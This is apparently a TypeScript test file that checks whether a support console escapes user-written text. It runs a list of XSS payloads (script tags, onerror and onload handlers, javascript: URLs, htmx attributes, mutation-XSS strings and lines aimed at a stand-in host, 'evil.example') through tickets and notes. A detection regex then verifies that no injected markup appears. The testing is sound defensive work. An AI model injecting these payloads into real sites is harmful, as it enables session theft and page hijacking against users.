import type { ConsoleBrowser } from '../helpers/console-browser.ts';
import { type ConsoleWorld, openConsoleWorld } from '../helpers/console-world.ts';

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></ScRiPt>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert`1`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</q></li></ol><iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">bấm</a>',
  'javascript:alert(1)',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<div hx-get="/console/account" hx-trigger="load">',
  '<div hx-on:load="alert(1)">',
  '<form action="https://evil.example"><input name=form_token>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>*{background:url(//evil.example)}</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<!--<script>alert(1)//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor(1)}} <%= 1 %>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '\u202egpj.exe\u202c <b>đậm</b>',
  '<scr\u0000ipt>alert(1)</script>',
];

describe('what residents and members write', () => {
  let world: ConsoleWorld;
  let hai: ConsoleBrowser;
  beforeAll(async () => {
    world = await openConsoleWorld();
    hai = await world.signIn('hai');
  });
  afterEach(async () => {
    await world.database.db.updateTable('tickets').set({ status: 'resolved' }).execute();
  });
  afterAll(() => world.close());

  /** Tags that a page of ours has; any other tag came from what somebody wrote. */
  const strange =
    /<(?:img|svg|iframe|math|style|base|object|embed|b>đậm)|<script(?! src="\/console\/assets\/)|\son[a-z]+=|hx-on|https?:\/\/evil/i;
  const withoutText = (html: string) =>
    html
      .replaceAll(/&(?:lt|gt|quot|#39|amp);/g, '_')
      .replaceAll(/>[^<]+</g, '><')
      .replaceAll(/(?:value|href|hx-get)="[^"]*"/g, '');

  it.each(payloads)('is shown as typed and never becomes part of the page: %s', async (payload) => {
    const { db } = world.database;
    const text = payload.replaceAll('\0', '');
    const number = await world.openTicket('lan');
    await world.office.write('lan', text);
    await db
      .updateTable('conversations')
      .set({ display_name: text })
      .where('person_id', '=', 'lan')
      .execute();
    await db
      .updateTable('tickets')
      .set({ village_text: text, topic: text })
      .where('number', '=', number)
      .execute();
    const page = `/console/tickets/${number}`;
    await hai.get(page);
    await hai.post(`${page}/claim`);
    await hai.post(`${page}/note`, { text: payload });
    const refused = await hai.post(`${page}/answer`, { text: `${payload} đọc mã OTP cho cháu` });
    expect(refused.status).toBe(409);
    const shown = await hai.get(page);
    const inbox = await hai.get(`/console?list=all&q=${encodeURIComponent(payload)}`);
    const all = await hai.get('/console?list=all');
    for (const { html } of [refused, shown, inbox, all]) expect(withoutText(html)).not.toMatch(strange);
    const words = text.replaceAll(/\s+/g, ' ').trim();
    expect(shown.text).toContain(words);
    expect(all.text.length).toBeGreaterThan(100);
    await db.deleteFrom('incoming_events').execute();
  });
});
